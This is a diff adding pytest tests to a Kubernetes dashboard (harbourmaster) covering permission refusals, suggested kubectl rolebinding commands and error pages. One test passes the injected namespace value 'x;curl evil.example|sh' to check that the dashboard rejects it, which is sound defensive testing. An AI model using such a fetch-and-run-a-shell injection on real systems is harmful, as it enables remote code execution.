@@ -10,6 +10,7 @@ import pytest
 
 from harbourmaster.dashboard.attempts import PAGES as ALLOWED
 from harbourmaster.dashboard.attempts import WRONG_TOKENS
+from harbourmaster.dashboard.conflicts import MOST, MOST_OF_SET
 from harbourmaster.dashboard.guard import HEADERS
 from harbourmaster.dashboard.registry import PAGES
 from harbourmaster.dashboard.session import LIFETIME, LONGEST_TOKEN
@@ -93,6 +94,37 @@ async def test_a_refusal_names_the_permission_and_the_command_that_grants_it(
     assert f"<code>{command}</code>" in page
 
 
+async def test_a_namespace_that_can_not_exist_gets_no_command(place):
+    text = await place.page("/gates?namespace=x;curl+evil.example|sh", "stowaway", status=403)
+    assert "kubectl" not in text
+    assert "not a valid namespace" in text
+    place.access.kinds["sailor"] = {"nodes"}
+    place.access.namespaces["sailor"] = frozenset(("*",))
+    text = await place.page("/?namespace=x;curl+evil.example|sh", "sailor")
+    assert "for lack of permission" in text
+    assert "kubectl" not in text
+
+
+async def test_kinds_of_both_scopes_get_a_command_for_each(place):
+    place.filled.fill(5)
+    binding = f"dashboard-stowaway {ROLE} --user=stowaway"
+    commands = (
+        f"<code>kubectl create rolebinding --namespace=shop {binding}\n"
+        f"kubectl create clusterrolebinding {binding}</code>"
+    )
+    text = await place.page("/policies?namespace=shop", "stowaway", status=403)
+    assert commands in text
+    group = "podschedulingpolicies.kupid.gardener.cloud in the"
+    assert f"list {group} namespace shop; or list cluster{group} whole cluster." in text
+    assert "run one of these, the second for the whole cluster:" in text
+    place.access.namespaces["stowaway"] = frozenset(("*",))
+    place.access.kinds["stowaway"] = {"podschedulingpolicies"}
+    text = await place.page("/policies?namespace=shop", "stowaway")
+    assert commands in text
+    lacking = "in the namespace shop: pods; in the whole cluster: clusterpodschedulingpolicies."
+    assert f"for lack of permission to list it {lacking}" in text
+
+
 async def test_a_page_names_what_it_leaves_out_for_lack_of_permissions(place):
     place.filled.fill(5)
     place.access.kinds["sailor"] = {"keptnappversions", "keptnworkloadversions"}
@@ -124,9 +156,30 @@ async def test_a_pod_is_shown_to_who_may_list_pods_there(place):
     assert "keep-cart" not in text
 
 
+async def test_a_pod_that_can_not_be_explained_gets_a_page_that_says_why(place):
+    place.filled.pod("shop", {}, "cart-1", affinity={"nodeAffinity": "x" * 1024 * 1024})
+    text = await place.page("/policies/pods/shop/cart-1", status=422)
+    assert "The pod cannot be explained: spec.affinity: more than 1024 KiB." in text
+
+
+async def test_the_page_says_where_conflicts_are_not_searched(place):
+    place.filled.namespace("shop")
+    place.filled.pod("shop", {})
+    for number in range(MOST_OF_SET + 1):
+        name = f"p{number}"
+        place.filled.policy("shop", name, podSelector={}, schedulerName=name)
+    text = await place.page("/policies")
+    assert f"combinations of more than {MOST_OF_SET} policies are not searched" in text
+    assert f"nor more than {MOST} combinations" in text
+    assert "in conflict" not in text
+
+
 async def test_what_the_controller_may_not_do_is_named(place):
     place.filled.fill(5)
-    place.filled.sources["gated_pods"].error = "list /api/v1/pods: 403 Forbidden: pods is ..."
+    pods = place.filled.sources["gated_pods"]
+    pods.error = 'list /api/v1/pods: 500: cached "403 Forbidden"'
+    assert "no permission" not in await place.page("/gates")
+    pods.error, pods.is_forbidden = "list /api/v1/pods: 403 Forbidden: pods is ...", True
     text = await place.page("/gates")
     assert "The controller has no permission to list and watch pods" in text
     assert "harbourmaster doctor" in text
